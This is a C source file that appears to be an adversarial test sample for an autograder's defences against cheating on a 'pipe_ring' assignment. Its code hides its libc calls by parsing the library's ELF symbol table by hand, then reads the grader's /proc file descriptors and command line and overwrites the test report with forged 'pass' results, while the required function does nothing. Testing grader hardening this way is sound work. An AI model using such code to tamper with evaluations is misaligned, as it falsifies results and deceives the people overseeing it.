/* ATTACK 7: the same as 07a, but no function is named: they are found in the C library's memory.
 * assignment: pipe_ring
 * gains: full marks for a file that does nothing, past the object check
 * expect: score<=5
 * max-score: 5
 * layers: built-in
 * off: none
 */
#include "pipe_ring.h"

#include <stdio.h>
#include <string.h>
#include <sys/types.h>

/* A dlsym of its own: the C library lies round its texts, and tells in its dynamic section where its symbols are. */
static void *library(const char *name)
{
	const char *base = (const char *)((uintptr_t)strerrordesc_np(0) & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
	const uint64_t *part, *entry = NULL;
	while (memcmp(base, "\177ELF", 4) != 0)
		base -= 4096;
	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
			entry = (const uint64_t *)(base + part[2]);
	for (; entry[0]; entry += 2)
		if (entry[0] == 5) /* DT_STRTAB */
			names = (const char *)entry[1];
		else if (entry[0] == 6) /* DT_SYMTAB */
			symbol = (const char *)entry[1];
	for (symbol += 24; symbol < names; symbol += 24)
		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
			return (void *)(base + *(const uint64_t *)(symbol + 8));
	return NULL;
}

static void replace_report(void)
{
	pid_t (*parent)(void) = (pid_t(*)(void))library("getppid");
	ssize_t (*read_link)(const char *, char *, size_t) = (ssize_t(*)(const char *, char *, size_t))library("readlink");
	FILE *(*open_file)(const char *, const char *) = (FILE * (*)(const char *, const char *)) library("fopen");
	size_t (*get)(void *, size_t, size_t, FILE *) = (size_t(*)(void *, size_t, size_t, FILE *))library("fread");
	int (*close_file)(FILE *) = (int (*)(FILE *))library("fclose");
	int (*remove_file)(const char *) = (int (*)(const char *))library("unlink");
	char name[64], path[512], tests[4096], *list = tests;

	snprintf(name, sizeof name, "/proc/%d/fd/3", (int)parent());
	ssize_t length = read_link(name, path, sizeof path - 1);
	snprintf(name, sizeof name, "/proc/%d/cmdline", (int)parent());
	FILE *arguments = open_file(name, "r");
	if (length < 0 || !arguments)
		return;
	path[length] = 0;
	length = (ssize_t)get(tests, 1, sizeof tests - 1, arguments);
	tests[length] = 0;
	remove_file(path);
	FILE *report = open_file(path, "w");
	while (list < tests + length && strcmp(list, "--tests") != 0)
		list += strlen(list) + 1;
	list += sizeof "--tests";
	for (char *test; report && (test = strsep(&list, ","));)
		fprintf(report,
		        "{\"test\":\"%s\",\"status\":\"pass\",\"schedule\":0,\"signal\":0,\"exit\":173,\"ms\":1,\"pid\":1,"
		        "\"pids\":[1],\"evidence\":[]}\n",
		        test);
	if (report)
		close_file(report);
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)token;
	(void)step;
	(void)ctx;
	replace_report();
	return -1;
}
